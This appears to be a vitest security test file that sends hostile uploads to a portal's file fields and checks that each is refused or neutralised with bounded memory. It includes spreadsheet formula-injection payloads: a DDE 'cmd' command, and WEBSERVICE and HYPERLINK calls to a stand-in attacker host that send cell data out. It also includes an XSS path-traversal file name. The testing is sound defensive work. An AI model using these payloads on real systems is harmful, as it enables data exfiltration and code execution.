// Generated upload checks (issue #11): every file input found on the screens of the route table is
// sent hostile files: empty, just over the size limit (streamed), the wrong content for its name,
// a workbook that inflates to hundreds of megabytes, workbooks with external links, macros and
// formulas, a CSV with formula cells, a PDF that runs JavaScript, and every PDF of the hostile
// corpus (tests/fixtures/hostile-pdf) on every field that takes PDFs. Each is refused with a message
// of the translation catalogue, or accepted under the upload's documented rules (an .xlsx with
// xlsx content, at most 10 MB and 1000 lines, formulas read as their cached result only); never
// a 5xx, and the portal's memory stays bounded while it reads them.
import { randomBytes, randomUUID } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { endpoints } from '~/endpoints';
import { readBulkCsv } from '~/lib/spreadsheet/bulk-csv.server';
import { readBulkWorkbook } from '~/lib/spreadsheet/bulk-workbook.server';
import { BULK_FILE_MAX_SIZE, LETTER_MAX_BYTES } from '~/lib/validation/files';
import { fullSuite, recordFigures } from '../support/figures';
import {
  formulaCsv,
  pdfWithJavaScript,
  workbook,
  zipBomb,
  type Cell,
} from '../support/hostile-files';
import type { CookieJar } from '../support/http-sign-in';
import { submittedPairs, type PageForm } from '../support/page-forms';
import { hostilePdfCorpus } from '../support/pdf-corpus';
import { bombPdf, textPdf } from '../support/pdf-samples';
import { startPortal, type PortalProcess } from '../support/portal-process';
import { DemoScreens } from '../support/screen-forms';
import { screenPaths } from '../support/screen-paths';
import { decodeEntities, validationMessages } from '../support/translated-messages';

const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** Most the portal (and its backend) may grow while refusing hostile files. */
const memoryBudgetMb = 150;

interface UploadField {
  form: PageForm;
  field: string;
  jar: CookieJar;
  screen: string;
  /** What the field takes, by its accept attribute: a csv field refuses other files as not csv. */
  format: 'xlsx' | 'csv' | 'pdf' | 'image' | 'other';
}

/** The field's format, from its accept attribute. */
function formatOf(accept: string | undefined): UploadField['format'] {
  if (accept?.includes('.pdf')) return 'pdf';
  if (accept?.includes('image/png')) return 'image';
  if (accept?.includes('.csv')) return 'csv';
  if (accept?.includes('.xlsx')) return 'xlsx';
  return 'other';
}

/**
 * What a csv field answers instead of a workbook field's message: a file that is not text is not
 * csv (its name or its content), and a csv file is read (then refused for its columns, or taken).
 */
function expectedFor(upload: UploadField, file: HostileFile): HostileFile['expected'] {
  if (upload.format === 'pdf') return expectedOfPdfField(file);
  if (upload.format === 'image') return expectedOfImageField(file);
  if (upload.format !== 'csv' || typeof file.expected === 'string') return file.expected;
  if (file.name.endsWith('.csv')) return 'neutralised';
  const refused = file.expected.refused.flatMap((key) =>
    key === 'files.xlsxOnly' || key === 'files.tooLargeUnpacked' ? ['files.notCsv'] : [key],
  );
  return { refused };
}

/**
 * What a field of PDF attachments answers: anything that does not start as a PDF is refused at its
 * first bytes; a PDF with active content is refused by the service (or the form is refused for its
 * other fields first, and the file is sent nowhere); an empty file is named as empty.
 */
function expectedOfPdfField(file: HostileFile): HostileFile['expected'] {
  const content = Buffer.isBuffer(file.content) ? file.content : null;
  if (content?.length === 0) return { refused: ['files.pdfEmpty', 'required'] };
  // A PDF passes the portal's first check: the service refuses it when it is sent, and a step
  // that sends nothing (the eBox check) shows the form again; either way it is never accepted.
  if (content?.subarray(0, 5).toString('latin1') === '%PDF-') return 'notSent';
  return { refused: ['files.pdfOnly'] };
}

/**
 * What a notification image's field answers: a file over its limit is refused on the field (the
 * form read on); anything that does not start as a PNG or JPEG is refused before it is sent; an
 * empty file is no file, and the form is refused for its empty fields.
 */
function expectedOfImageField(file: HostileFile): HostileFile['expected'] {
  if (!Buffer.isBuffer(file.content)) return { refused: ['push.imageTooLarge'] };
  if (file.content.length === 0) return { refused: ['required'] };
  return { refused: ['push.imageType'] };
}

interface HostileFile {
  label: string;
  name: string;
  contentType: string;
  /** The bytes, or a size to stream (zip signature, then zeros) without holding it in memory. */
  content: Buffer | { streamedSize: number };
  /** 'refused': with one of these catalogue messages; 'neutralised': refused, or accepted with
   * every formula read as its cached result. */
  expected: { refused: readonly string[] } | 'neutralised' | 'notSent';
}

const messages = validationMessages('nl');

/** The catalogue keys whose message the page's error summary shows. */
function shownMessages(html: string): string[] {
  const summary = /<div class="error-summary"[\s\S]*?<\/ul>/.exec(html)?.[0];
  if (!summary) return [];
  const text = decodeEntities(summary);
  return [...messages].filter(([, pattern]) => pattern.test(text)).map(([key]) => key);
}

/** Resident memory of the portal and its backend child, in bytes (peak: since the last reset). */
/** The portal's process and its children (the embedded backend). */
function processesOf(pid: number): number[] {
  const children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim();
  return [pid, ...(children ? children.split(/\s+/).map(Number) : [])];
}

function memoryOf(pid: number): { rss: number; peak: number } {
  let rss = 0;
  let peak = 0;
  for (const id of processesOf(pid)) {
    const status = readFileSync(`/proc/${id}/status`, 'utf8');
    const read = (name: string) =>
      Number(new RegExp(`${name}:\\s+(\\d+) kB`).exec(status)?.[1] ?? 0) * 1024;
    rss += read('VmRSS');
    peak += read('VmHWM');
  }
  return { rss, peak };
}

let portal: PortalProcess;
const uploads: UploadField[] = [];
let hostileSent = 0;

beforeAll(async () => {
  portal = await startPortal({ RATE_LIMIT_GENERAL: '1000000', RATE_LIMIT_MUTATIONS: '1000000' });
}, 60_000);

afterAll(async () => {
  await portal?.stop();
});

/**
 * Posts the upload's form with `file` in its file field and the form's other fields, as a browser
 * sends it, streaming large contents; `flood` small fields of no name the form knows come too, and
 * the fields `replace` names take its values instead of the page's (`intent`: the button the form
 * is sent with).
 */
function postFile(
  upload: UploadField,
  file: HostileFile,
  flood = 0,
  replace: Record<string, string> = {},
) {
  const boundary = `----upload${randomBytes(8).toString('hex')}`;
  const floodPairs = Array.from({ length: flood }, (_, index) => [`veld${index}`, 'x'.repeat(40)]);
  const fields = [
    ...submittedPairs(upload.form).filter(([name]) => name !== upload.field && !(name in replace)),
    ...Object.entries(replace),
    ...floodPairs,
  ]
    .map(
      ([name, value]) =>
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
    )
    .join('');
  const head = Buffer.from(
    `${fields}--${boundary}\r\nContent-Disposition: form-data; name="${upload.field}"; filename="${file.name}"\r\nContent-Type: ${file.contentType}\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const size = Buffer.isBuffer(file.content) ? file.content.length : file.content.streamedSize;
  return new Promise<{ status: number; location: string | null; body: string }>(
    (resolve, reject) => {
      let answered = false;
      const request = httpRequest(
        `${portal.url}${upload.form.action}`,
        {
          method: 'POST',
          agent: false,
          headers: {
            cookie: upload.jar.header(),
            origin: portal.url,
            'content-type': `multipart/form-data; boundary=${boundary}`,
            'content-length': String(head.length + size + tail.length),
          },
        },
        (response) => {
          let text = '';
          response.setEncoding('utf8');
          response.on('data', (chunk: string) => (text += chunk));
          response.on('end', () => {
            answered = true;
            resolve({
              status: response.statusCode ?? 0,
              location: response.headers.location ?? null,
              body: text,
            });
          });
        },
      );
      // The portal may answer an oversized upload before it is all sent and close the connection.
      request.on('error', (error) => {
        if (!answered) reject(error);
      });
      const write = async () => {
        request.write(head);
        if (Buffer.isBuffer(file.content)) {
          request.write(file.content);
        } else {
          // A ZIP signature, then zeros, 64 KiB at a time: the test never holds the whole file.
          const chunk = Buffer.alloc(64 * 1024);
          chunk.writeUInt32LE(0x04034b50, 0);
          let left = file.content.streamedSize;
          let first = true;
          while (left > 0) {
            const piece = chunk.subarray(0, Math.min(left, chunk.length));
            if (!request.write(first ? piece : Buffer.alloc(piece.length))) {
              await new Promise<void>((resume) => request.once('drain', () => resume()));
            }
            first = false;
            left -= piece.length;
            if (request.destroyed) return;
          }
        }
        request.end(tail);
      };
      write().catch(reject);
    },
  );
}

const formulaRows: Cell[][] = [
  ['Naam', 'Bedrag'],
  ['Peeters', { formula: 'HYPERLINK("http://kwaadaardig.example/","klik")', result: 'klik' }],
  ['Janssens', { formula: "cmd|' /C calc'!A0", result: '0' }],
  ['Maes', { formula: 'WEBSERVICE("http://kwaadaardig.example/?"&A2)', result: '' }],
];

/** The hostile files, built once per run. */
function hostileFiles(): HostileFile[] {
  const pdf = pdfWithJavaScript();
  return [
    {
      label: 'empty',
      name: 'leeg.xlsx',
      contentType: xlsx,
      content: Buffer.alloc(0),
      expected: { refused: ['required'] },
    },
    {
      label: 'one byte over the limit',
      name: 'groot.xlsx',
      contentType: xlsx,
      content: { streamedSize: BULK_FILE_MAX_SIZE + 1 },
      expected: { refused: ['files.tooLarge'] },
    },
    {
      label: 'PDF bytes named .xlsx',
      name: 'lijst.xlsx',
      contentType: xlsx,
      content: pdf,
      expected: { refused: ['files.xlsxOnly'] },
    },
    {
      label: 'ZIP bytes named .pdf',
      name: 'brief.pdf',
      contentType: 'application/pdf',
      content: workbook([['Naam'], ['Peeters']]),
      expected: { refused: ['files.xlsxOnly'] },
    },
    {
      label: 'zip bomb',
      name: 'bom.xlsx',
      contentType: xlsx,
      content: zipBomb(fullSuite ? 1024 : 256),
      expected: { refused: ['files.tooLargeUnpacked'] },
    },
    {
      label: 'external links',
      name: 'extern.xlsx',
      contentType: xlsx,
      content: workbook(
        [
          ['Naam', 'Waarde'],
          ['Peeters', { formula: '[1]Blad1!A1', result: 'extern' }],
        ],
        { externalLink: true },
      ),
      expected: 'neutralised',
    },
    {
      label: 'macros named .xlsx',
      name: 'macro.xlsx',
      contentType: xlsx,
      content: workbook(formulaRows, { macros: true }),
      expected: 'neutralised',
    },
    {
      label: 'macros named .xlsm',
      name: 'macro.xlsm',
      contentType: 'application/vnd.ms-excel.sheet.macroEnabled.12',
      content: workbook(formulaRows, { macros: true }),
      expected: { refused: ['files.xlsxOnly'] },
    },
    {
      label: 'formulas',
      name: 'formules.xlsx',
      contentType: xlsx,
      content: workbook(formulaRows),
      expected: 'neutralised',
    },
    {
      label: 'CSV with formula cells',
      name: 'lijst.csv',
      contentType: 'text/csv',
      content: formulaCsv(),
      expected: { refused: ['files.xlsxOnly'] },
    },
    {
      label: 'PDF with JavaScript and OpenAction',
      name: 'brief.pdf',
      contentType: 'application/pdf',
      content: pdf,
      expected: { refused: ['files.xlsxOnly'] },
    },
    {
      label: 'a name with a path and markup',
      name: '../../<img src=x onerror=alert(1)>.xlsx',
      contentType: xlsx,
      content: pdf,
      expected: { refused: ['files.xlsxOnly', 'fileName.tooLong'] },
    },
  ];
}

describe('uploads, generated from the screens of the route table', () => {
  it('finds every file input on the screens (the widget gallery has one)', async () => {
    const screens = new DemoScreens(portal.url);
    const seen = new Set<string>();
    for (const screen of screenPaths()) {
      const { jar, forms } = await screens.open(screen.id, screen.nl);
      for (const form of forms) {
        for (const field of form.fields.filter((candidate) => candidate.type === 'file')) {
          const key = `${form.action.split('?')[0]} ${field.name}`;
          if (seen.has(key)) continue;
          seen.add(key);
          // A file input only uploads from a multipart form: anything else is a broken form.
          expect(form.method, `${key} posts`).toBe('post');
          expect(form.enctype, `${key} is multipart`).toBe('multipart/form-data');
          uploads.push({
            form,
            field: field.name,
            jar,
            screen: screen.id,
            format: formatOf(field.accept),
          });
        }
      }
    }
    expect(
      uploads.map((upload) => upload.screen),
      'no upload field found on any screen',
    ).not.toEqual([]);
    recordFigures('security', { 'upload fields found': uploads.length });
  }, 60_000);

  it('refuses hostile files with a translated message, or neutralises them, in bounded memory', async () => {
    expect(uploads.length).toBeGreaterThan(0);
    const files = hostileFiles();
    const pid = portal.child.pid!;
    const problems: string[] = [];
    const before = memoryOf(pid);
    // Resets the peak (VmHWM) of the portal and its backend, so the peak below is this test's.
    for (const id of processesOf(pid)) {
      try {
        writeFileSync(`/proc/${id}/clear_refs`, '5');
      } catch {
        // not permitted: the peak then counts from the process start, which only makes it stricter
      }
    }
    for (const upload of uploads) {
      for (const hostile of files) {
        const file = { ...hostile, expected: expectedFor(upload, hostile) };
        const answer = await postFile(upload, file);
        hostileSent += 1;
        const label = `${upload.screen} ${upload.field} ← ${file.label}`;
        if (answer.status >= 500) {
          problems.push(`${label}: ${answer.status}`);
          continue;
        }
        const shown = shownMessages(answer.body);
        const accepted = answer.status >= 300 && answer.status < 400;
        if (answer.location?.includes(`/${endpoints.signIn.path}`)) {
          problems.push(`${label}: sent to sign in, the session was lost`);
          continue;
        }
        if (file.expected === 'notSent') {
          if (accepted) problems.push(`${label}: ${answer.status}, accepted`);
          if (/<img\b[^>]*onerror/i.test(answer.body))
            problems.push(`${label}: the file name is reflected as markup`);
          continue;
        }
        if (file.expected === 'neutralised') {
          if (accepted) {
            // Accepted: what the portal reads from it holds no formula, only cached results.
            const bytes = new Uint8Array(file.content as Buffer);
            const reading =
              upload.format === 'csv' ? readBulkCsv(bytes) : await readBulkWorkbook(bytes);
            const cells = reading.ok ? reading.workbook.lines.flatMap((line) => line.cells) : [];
            const formulas = cells.filter((cell) =>
              /^[=+\-@]|\b(HYPERLINK|WEBSERVICE|cmd)\b/i.test(cell),
            );
            if (formulas.length > 0)
              problems.push(`${label}: accepted with formulas ${formulas.join(', ')}`);
          } else if (answer.status !== 400 || shown.length === 0) {
            problems.push(`${label}: ${answer.status} without a catalogue message`);
          }
          continue;
        }
        const refusedWith = shown.filter(
          (key) => typeof file.expected !== 'string' && file.expected.refused.includes(key),
        );
        if (accepted || answer.status < 400 || refusedWith.length === 0) {
          problems.push(
            `${label}: ${answer.status} ${shown.join(', ') || answer.body.slice(0, 120)}; expected ${file.expected.refused.join(' or ')}`,
          );
        }
        if (/<img\b[^>]*onerror/i.test(answer.body))
          problems.push(`${label}: the file name is reflected as markup`);
      }
    }
    const after = memoryOf(pid);
    const growthMb = (after.rss - before.rss) / 1024 / 1024;
    const peakMb = (after.peak - before.rss) / 1024 / 1024;
    recordFigures('security', {
      'hostile files sent': hostileSent,
      'memory growth MB': Math.round(growthMb),
      'memory peak growth MB': Math.round(peakMb),
    });
    expect(problems).toEqual([]);
    expect(growthMb, 'resident memory growth while refusing hostile files').toBeLessThan(
      memoryBudgetMb,
    );
    expect(peakMb, 'peak resident memory growth while reading hostile files').toBeLessThan(
      memoryBudgetMb,
    );
  }, 180_000);

  it('judges the hostile-PDF corpus on every field that takes PDFs as the service does', async () => {
    const pdfFields = uploads.filter((upload) => upload.format === 'pdf');
    expect(pdfFields.length, 'fields that take PDFs').toBeGreaterThan(0);
    const corpus = hostilePdfCorpus();
    const problems: string[] = [];
    let judged = 0;
    for (const upload of pdfFields) {
      // A form with a preview shows what the service makes of the file without sending it; the
      // others are sent as the page gave them (a resend form is filled in already, a new form is
      // refused for its empty fields first), each post as a new shipment.
      const previews = upload.form.submitters.some(
        ([name, value]) => name === 'intent' && value === 'voorbeeld',
      );
      for (const pdf of corpus) {
        const label = `${upload.screen} ${upload.field} ← ${pdf.name}`;
        const answer = await postFile(
          upload,
          {
            label: pdf.name,
            name: pdf.name,
            contentType: 'application/pdf',
            content: pdf.bytes,
            expected: 'notSent',
          },
          0,
          { intent: previews ? 'voorbeeld' : 'verzenden', idempotencyKey: randomUUID() },
        );
        const shown = shownMessages(answer.body);
        const sent = answer.status >= 300 && answer.status < 400;
        if (answer.location?.includes(`/${endpoints.signIn.path}`) || answer.status >= 500) {
          problems.push(`${label}: ${answer.status} ${answer.location ?? ''}`);
        } else if (pdf.verdict === 'notPdf') {
          // Not a PDF at its first bytes: the portal refuses it before anything is sent.
          if (!shown.includes('files.pdfOnly')) problems.push(`${label}: ${shown.join(', ')}`);
        } else if (pdf.verdict !== 'sentClean') {
          if (sent || answer.status !== 400) problems.push(`${label}: ${answer.status}, taken`);
          else if (shown.includes('files.pdfRefusedByService')) judged += 1;
          else if (previews) problems.push(`${label}: ${shown.join(', ')}, not refused`);
        } else if (previews) {
          judged += 1;
          if (answer.status !== 200 || !answer.body.includes('class="document-preview"'))
            problems.push(`${label}: ${answer.status} ${shown.join(', ')}, no preview`);
        } else if (sent) {
          judged += 1;
        } else if (shown.some((key) => key.startsWith('files.'))) {
          problems.push(`${label}: ${answer.status} ${shown.join(', ')}, refused`);
        }
      }
    }
    recordFigures('security', { 'corpus PDFs judged by the service through a form': judged });
    expect(problems).toEqual([]);
    expect(judged, 'files judged by the service through a form').toBeGreaterThan(corpus.length);
  }, 120_000);

  it('answers a form flooded with 2000 small fields at once, refused with a message', async () => {
    expect(uploads.length).toBeGreaterThan(0);
    const problems: string[] = [];
    const pdf = Buffer.from(await textPdf(1));
    for (const upload of uploads) {
      const file: HostileFile = {
        label: 'a form of 2000 fields',
        name: upload.format === 'pdf' ? 'brief.pdf' : 'lijst.xlsx',
        contentType: upload.format === 'pdf' ? 'application/pdf' : xlsx,
        content: upload.format === 'pdf' ? pdf : workbook([['Naam'], ['Peeters']]),
        expected: 'notSent',
      };
      const label = `${upload.screen} ${upload.field} ← ${file.label}`;
      // A refusal that waited for the rest of a body nothing reads any more never answered.
      const answer = await Promise.race([
        postFile(upload, file, 2000),
        new Promise<null>((resolve) => setTimeout(() => resolve(null), 10_000).unref()),
      ]);
      if (answer === null) {
        problems.push(`${label}: no answer within 10 s`);
        continue;
      }
      if (answer.status < 400 || answer.status >= 500 || shownMessages(answer.body).length === 0) {
        problems.push(`${label}: ${answer.status} ${shownMessages(answer.body).join(', ')}`);
      }
    }
    expect(problems).toEqual([]);
  }, 120_000);

  it("refuses a decompression bomb of a letter's full size within 5 s, the service ready throughout and its memory bounded", async () => {
    const letter = uploads.find((upload) =>
      upload.form.action.startsWith('/documentendienst/brief'),
    );
    expect(letter, 'the letter form').toBeDefined();
    if (!letter) return;
    // As large as a letter may be: each MiB of zeros deflates to about a kilobyte.
    const bomb = Buffer.from(
      await bombPdf(Math.floor((LETTER_MAX_BYTES - 100_000) / 1100), 'page'),
    );
    expect(bomb.length).toBeGreaterThan(LETTER_MAX_BYTES * 0.8);
    expect(bomb.length).toBeLessThanOrEqual(LETTER_MAX_BYTES);
    const pid = portal.child.pid!;
    const idle = memoryOf(pid).rss;
    let highest = idle;
    const readiness: number[] = [];
    let watching = true;
    const watch = (async () => {
      while (watching) {
        highest = Math.max(highest, memoryOf(pid).rss);
        readiness.push((await fetch(`${portal.url}/readyz`)).status);
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
    })();
    const file: HostileFile = {
      label: 'a decompression bomb',
      name: 'bom.pdf',
      contentType: 'application/pdf',
      content: bomb,
      expected: { refused: ['files.pdfRefusedByService'] },
    };
    let seconds = Infinity;
    try {
      // The preview reads the file as the send does (inspectPdf), before anything else is done.
      const started = performance.now();
      const answer = await postFile(letter, file, 0, { intent: 'voorbeeld' });
      seconds = (performance.now() - started) / 1000;
      expect(answer.status).toBeLessThan(500);
      expect(shownMessages(answer.body)).toContain('files.pdfRefusedByService');
    } finally {
      watching = false;
      await watch;
    }
    recordFigures('security', {
      'pdf bomb refused in s': seconds.toFixed(1),
      'pdf bomb memory growth MB': Math.round((highest - idle) / 1024 / 1024),
    });
    expect(seconds, 'seconds to refuse').toBeLessThan(5);
    expect(readiness.length).toBeGreaterThan(0);
    expect(readiness.filter((status) => status !== 200)).toEqual([]);
    expect((highest - idle) / 1024 / 1024, 'MB grown while refusing').toBeLessThan(300);
  }, 60_000);
});
